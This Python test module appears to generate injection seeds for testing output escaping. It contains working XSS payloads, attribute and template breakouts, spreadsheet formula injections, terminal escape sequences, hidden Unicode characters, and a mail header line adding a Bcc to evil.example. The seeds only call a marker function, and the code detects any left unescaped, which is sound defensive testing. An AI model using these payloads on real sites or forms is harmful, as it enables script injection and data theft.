"""Texts that mean mischief wherever text becomes something else: markup, attributes, scripts, formulas, terminals.

Each carries ``xss(N)``, the number of the field that it was sown in; a browser that ever runs one calls ``xss``. Their
tags are in a case of letters that no page of ours uses, so one that was not escaped is found as it stands.
"""

import re
from itertools import count, islice

MARKUP = (
    "<xQ onmouseover=xss(~)>",
    "<sCript>xss(~)</sCript>",
    "</sCript><sCript>xss(~)</sCript>",
    "</tItle><sCript>xss(~)</sCript>",
    "</tExtarea><iMg src=x onerror=xss(~)>",
    "</sTyle><sVg onload=xss(~)>",
    "--><iMg src=x onerror=xss(~)>",
    "<!--<iMg title='--><iMg src=x onerror=xss(~)>",
    "]]><sVg><sCript>xss(~)</sCript>",
    "<nOscript><p title='</nOscript><iMg src=x onerror=xss(~)>",
    "<mAth><mtext></form><iMg src=x onerror=xss(~)>",
    "<iFrame srcdoc='<sCript>parent.xss(~)</sCript>'>",
    "<dEtails open ontoggle=xss(~)>",
    "<aUdio src onloadstart=xss(~)>",
    "<fOrm action=javascript:xss(~)><iNput type=submit>",
    "<bAse href='javascript:xss(~)//'>",
    "<mEta http-equiv=refresh content='0;url=//x/xss(~)'>",
    "<lInk rel=stylesheet href='data:text/css,xss(~)'>",
    "<oBject data='javascript:xss(~)'>",
    "&lt;sCript&gt;xss(~)&lt;/sCript&gt;",
    "&#60;iMg src=x onerror=xss(~)&#62;",
    "%3CsCript%3Exss(~)%3C/sCript%3E",
    "\\u003csCript\\u003exss(~)\\u003c/sCript\\u003e",
    "\\x3ciMg src=x onerror=xss(~)\\x3e",
    "＜sCript＞xss(~)＜/sCript＞",
)
INSIDE = (
    '" autofocus onfocus=xss(~) x="',
    "' autofocus onfocus=xss(~) x='",
    "` onmouseover=xss(~) `",
    " style=x:expression(xss(~))",
    "javascript:xss(~)//https://",
    "data:text/html,<sCript>xss(~)</sCript>",
    "');xss(~);//",
    '"};xss(~);({"a":"',
    "${xss(~)}",
    "{{constructor.constructor('xss(~)')()}}",
    "{% include 'xss(~)' %}",
    "[x](javascript:xss(~))",
)
FORMULAS = ("=xss(~)", "+xss(~)", "-xss(~)", "@xss(~)", "＝xss(~)", '=HYPERLINK("//x","xss(~)")')
HIDDEN = (
    "\x1b]0;xss(~)\x07",
    "\x1b[2Jxss(~)",
    "\x9b31mxss(~)",
    "xss(~)\r\nBcc: all@evil.example",
    "xss(~)\u2028<sCript>",
    "\u202exss(~)\u2066",
    "\t=xss(~)",
    "xss(~)\u200b\ufeff\u00ad",
)
RAW = re.compile(r"<(?:!--<|/?(?:xQ|[a-z]{1,2}[A-Z][a-z]+))(?![a-zA-Z])[^;]")
OURS = {"<clipPath", "<linearGradient", "<foreignObject"}
CALL = re.compile(r"xss\((\d+)\)")


class Seeds:
    """Hands out the texts in turn, and remembers which field each number was sown in."""

    def __init__(self):
        self.fields = {}
        self._shown, self._any = _endless(MARKUP + INSIDE + FORMULAS), _endless(HIDDEN + MARKUP + INSIDE + FORMULAS)

    def shown(self, field):
        """One for a field that takes no hidden characters."""
        return self.sown(field, next(self._shown))

    def name(self, field):
        """One for a field of the catalog's, which may hold anything."""
        return self.sown(field, next(self._any))

    def text(self, field):
        """Several for a long field."""
        return self.sown(field, " ".join(islice(self._shown, 4)))

    def sown(self, field, text):
        number = len(self.fields)
        self.fields[number] = field
        return text.replace("~", str(number))

    def found_in(self, text):
        return {self.fields[int(number)] for number in CALL.findall(text)}


def _endless(texts):
    return (texts[number % len(texts)] for number in count())


def unescaped(html):
    """Every piece of a text of ours that stands in the page as markup."""
    return [html[one.start() : one.start() + 80] for one in RAW.finditer(html) if one[0][:-1] not in OURS]
